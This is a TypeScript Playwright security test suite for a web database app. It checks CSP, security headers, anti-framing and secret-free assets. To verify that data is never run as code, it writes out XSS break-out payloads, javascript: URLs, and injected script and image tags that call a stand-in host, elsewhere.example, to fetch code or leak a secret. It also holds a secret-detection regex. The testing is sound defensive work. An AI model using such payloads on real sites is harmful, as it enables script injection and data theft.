/** Security in the browser: policies, sent headers, and data that never becomes code. */
import { readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import type { Page } from "playwright/test";
import type { Attachment } from "../../lib/contract/attachments";
import type { Base } from "../../lib/contract/bases";
import { ApiClient } from "../api-client";
import { expect, test as server } from "../fixtures";
import { errorsOf, signIn } from "../grid-page";
import { main } from "../rounds";

declare global {
  interface Window {
    /** Set by every script that should never have run. */
    ran?: boolean;
    violations: string[];
  }
}

/** Payloads that break out of a string, attribute, element, script or title and then run. */
const script =
  "\"'></title></script><img src=x onerror=window.ran=true><script>window.ran=true</script><svg onload=window.ran=true>{{window.ran=true}}";

const fields = [
  { type: "single_line_text", name: `Text ${script}` },
  { type: "long_text", name: "Notes" },
  { type: "url", name: "Link" },
  { type: "single_select", name: "Stage", template: { options: [{ label: script }] } },
  { type: "multiple_select", name: "Tags", template: { options: [{ label: script }] } },
  { type: "attachments", name: "Files" },
  { type: "currency", name: "Price", template: { currencySymbol: "<b>" } },
];

const test = server.extend<{
  api: ApiClient;
  /** A database in which every name is a script. */
  base: Base;
}>({
  api: async ({ baseURL, apiKey }, use) => use(new ApiClient(baseURL as string, apiKey)),
  base: async ({ api }, use) => {
    const made = { name: `Base ${script}`, tables: [{ name: `Table ${script}`, fields }] };
    const { status, body: base } = await api.post<Base>("/bases", made);
    expect(status).toBe(201);
    const place = `/bases/${base.id}/tables/${base.tables[0]?.id}`;
    await api.post(`${place}/views`, { name: `View ${script}`, type: "grid" });
    const { body: file } = await api.call<Attachment>(
      `/bases/${base.id}/attachments?filename=${encodeURIComponent(`${script}.svg`)}`,
      {
        method: "POST",
        raw: `<svg xmlns="http://www.w3.org/2000/svg"><script>window.ran=true</script></svg>`,
      },
    );
    const record = {
      [`Text ${script}`]: script,
      Notes: script,
      Stage: script,
      Tags: [script],
      Files: [file],
    };
    const created = await api.post(`${place}/records`, { record: { ...record, Price: 1 } });
    expect(created.status).toBe(201);
    await use((await api.get(`/bases/${base.id}`)).body);
  },
  page: async ({ page }, use) => {
    await page.addInitScript(() => {
      window.violations = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
        window.violations.push(`${effectiveDirective} ${blockedURI}`),
      );
    });
    await use(page);
  },
});

function addressesOf(base: Base): string[] {
  const [table] = base.tables;
  return [
    "/",
    `/database/${base.id}`,
    `/database/${base.id}/${table?.id}`,
    `/database/${base.id}/${table?.id}/${table?.views[0]?.id}`,
    `/docs?database=${base.id}&table=${table?.id}`,
    `/${encodeURIComponent(script)}`,
    `/database/${encodeURIComponent(script)}`,
  ];
}

for (const colorScheme of ["light", "dark"] as const) {
  test(`every page loads without errors and runs no script from its data, ${colorScheme}`, async ({
    page,
    apiKey,
    base,
  }) => {
    await page.emulateMedia({ colorScheme });
    const errors = errorsOf(page);
    page.on("dialog", (dialog) => errors.push(dialog.message()));
    const visit = async (address: string) => {
      await page.goto(address);
      await expectInert(page);
    };
    // Signed-in people are redirected from the sign-in page.
    await visit("/login");
    await visit(`/login?next=${encodeURIComponent(script)}`);
    await signIn(page, apiKey);
    for (const address of addressesOf(base)) await visit(address);
    expect(errors).toEqual([]);
  });
}

test("names and values are shown as plain text", async ({ page, apiKey, base }) => {
  const [table] = base.tables;
  await signIn(page, apiKey);
  await page.goto("/");
  await expect(page.getByRole("link", { name: `Base ${script}` }).first()).toBeVisible();
  await page.goto(`/database/${base.id}/${table?.id}`);
  await expect(page).toHaveTitle(`Table ${script} · Base ${script} · Rowhouse`);
  await expect(page.getByRole("heading", { name: `Base ${script}` })).toBeVisible();
  await expect(page.getByRole("link", { name: `Table ${script}` })).toBeVisible();
  const grid = page.getByRole("grid", { name: `Table ${script}` });
  await expect(grid.getByRole("columnheader", { name: `Text ${script}` })).toBeVisible();
  await expect(grid.getByRole("gridcell", { name: script }).first()).toHaveText(script);

  // Opens its editor, and that of the options.
  await grid.getByRole("gridcell", { name: script }).first().dblclick();
  await expect(grid.getByRole("textbox")).toHaveValue(script);
  await page.keyboard.press("Escape");
  await grid.locator('[role=gridcell][aria-colindex="5"]').first().dblclick();
  await expect(page.getByRole("option", { name: script })).toBeVisible();
  await expectInert(page);
});

test("script URLs are never stored", async ({ api, base }) => {
  const place = `/bases/${base.id}/tables/${base.tables[0]?.id}/records`;
  for (const Link of [
    "javascript:window.ran=true",
    "JavaScript:alert(1)",
    " javascript:x",
    "data:text/html,x",
  ]) {
    const { status, body } = await api.post(place, { record: { Link } });
    expect(status).toBe(400);
    expect(body.error.message).toMatch(/^record\.Link takes an address that begins with http/);
  }
});

test("an injected script could neither run nor send data", async ({ page, api, base }) => {
  const { body: file } = await api.call<Attachment>(`/bases/${base.id}/attachments?filename=a.js`, {
    method: "POST",
    raw: "(window.parent ?? window).ran=true",
  });
  await page.goto("/login");
  await page.evaluate((attachment) => {
    const holes = document.createElement("div");
    holes.innerHTML = `
      <img src="/icon.svg?none" onload="window.ran=true" onerror="window.ran=true">
      <a href="javascript:window.ran=true">run</a>
      <iframe srcdoc="<script>parent.ran=true</script><script src='${attachment}'></script>"></iframe>
      <object data="/icon.svg"></object>
      <img src="https://elsewhere.example/?secret">
      <base href="https://elsewhere.example/">`;
    document.body.append(holes);
    const inline = document.createElement("script");
    inline.textContent = "window.ran=true";
    document.body.append(inline);
    const foreign = document.createElement("script");
    foreign.src = "https://elsewhere.example/script.js";
    document.body.append(foreign);
    holes.querySelector("a")?.click();
    void fetch("https://elsewhere.example/").catch(() => {});
  }, new URL(file.url).pathname);
  const refused = () => page.evaluate(() => [...new Set(window.violations)].sort());
  await expect
    .poll(refused)
    .toEqual([
      "base-uri https://elsewhere.example/",
      "connect-src https://elsewhere.example/",
      "img-src https://elsewhere.example/?secret",
      expect.stringMatching(/^object-src .*\/icon.svg$/),
      "script-src-attr inline",
      "script-src-elem https://elsewhere.example/script.js",
      "script-src-elem inline",
    ]);
  expect(await page.evaluate(() => window.ran)).toBeUndefined();
});

test("pages cannot be framed by other sites", async ({ page, baseURL }) => {
  const elsewhere = createServer((_, response) => {
    response.setHeader("Content-Type", "text/html");
    response.end(`<iframe src="${baseURL}/login"></iframe>`);
  }).listen(0);
  await page.goto(`http://localhost:${(elsewhere.address() as AddressInfo).port}/`, { waitUntil: "load" });
  await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
  elsewhere.close();
});

test("every response has security headers", main, async ({ request, base }) => {
  const nonces = new Set<string>();
  for (const address of [...addressesOf(base), "/login", "/"]) {
    const headers = (await request.get(address, { maxRedirects: 0 })).headers();
    expect(headers).toMatchObject({
      "x-content-type-options": "nosniff",
      "referrer-policy": "same-origin",
      "cross-origin-opener-policy": "same-origin",
      "permissions-policy": "camera=(), microphone=(), geolocation=(), payment=()",
    });
    const policy = headers["content-security-policy"] ?? "";
    const scripts = /script-src ([^;]+)/.exec(policy)?.[1] ?? "";
    expect(scripts).toMatch(/^'self' 'nonce-[\w+/]{22}=='$/);
    for (const rule of [
      "default-src 'none'",
      "frame-ancestors 'none'",
      "base-uri 'none'",
      "object-src 'none'",
    ]) {
      expect(policy.split("; ")).toContain(rule);
    }
    nonces.add(scripts);
  }
  expect(nonces.size).toBe(addressesOf(base).length + 2);
  const nothing = "default-src 'none'; frame-ancestors 'none'";
  for (const [address, policy] of [
    // A worker has the policy of its own script.
    [
      "/_next/static/none",
      "default-src 'none'; script-src 'self'; connect-src 'self'; frame-ancestors 'none'",
    ],
    ["/api/none", nothing],
    ["/api/v1/none", nothing],
    ["/api/v1/openapi.json", nothing],
  ] as const) {
    const headers = (await request.get(address, { maxRedirects: 0 })).headers();
    expect(headers["content-security-policy"]).toBe(policy);
    expect(headers["x-content-type-options"]).toBe("nosniff");
  }
});

test("a malformed URL is refused", async ({ request }) => {
  for (const address of ["/%zz", "/database/%ff", "/login%"]) {
    const answer = await request.get(address);
    expect(answer.status()).toBe(400);
    expect((await answer.json()).error.message).toBe("The URL is not percent-encoded UTF-8.");
  }
});

test("assets contain no secrets", main, () => {
  const files = readdirSync(".next/static", { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && !entry.name.endsWith(".woff2"))
    .map((entry) => path.join(entry.parentPath, entry.name));
  expect(files.length).toBeGreaterThan(10);
  for (const file of files) {
    // The editor of formulas has their SQL, which names no table.
    expect(readFileSync(file, "utf8"), file).not.toMatch(
      /DATABASE_URL|ROWHOUSE_|postgres(ql)?:\/\/|PrismaClient|_prisma_migrations|\b(FROM|INTO|JOIN|UPDATE) "[A-Z]|sk_prod_[1-9A-HJ-NP-Za-km-z]{40}/,
    );
  }
});

test("signed-in pages contain neither key nor session", async ({ page, apiKey, base }) => {
  await signIn(page, apiKey);
  const [session] = (await page.context().cookies()).map(({ value }) => value);
  expect(session).toMatch(/^[\w-]{43}$/);
  for (const address of addressesOf(base)) {
    const text = await (await page.request.get(address)).text();
    expect(text).not.toContain(apiKey);
    expect(text).not.toContain(session);
    expect(text).not.toMatch(/postgres(ql)?:\/\//);
  }
});

/** Expects that no script ran, no element was created, and the policy blocked nothing. */
async function expectInert(page: Page): Promise<void> {
  // A page that draws nothing, not even a caret, may never become idle.
  await page.evaluate(() => new Promise((atRest) => requestIdleCallback(atRest, { timeout: 1_000 })));
  expect(await page.evaluate(() => [window.ran, window.violations])).toEqual([undefined, []]);
  await expect(page.locator("[onerror], [onload]")).toHaveCount(0);
}
